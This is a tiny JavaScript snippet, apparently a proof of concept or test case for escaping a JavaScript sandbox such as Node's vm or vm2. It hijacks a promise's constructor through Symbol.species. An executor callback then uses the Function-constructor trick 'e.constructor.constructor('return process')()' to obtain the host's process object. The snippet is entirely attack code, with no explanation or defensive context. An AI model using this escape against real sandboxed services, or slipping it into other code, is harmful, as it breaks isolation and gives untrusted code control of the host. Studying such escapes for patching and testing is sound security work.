// the species of a promise
async function f() {}
const p = f();
p.constructor = {[Symbol.species]: class { constructor(ex) { ex((v) => v, (e) => e.constructor.constructor('return process')()); } }};
p.then();
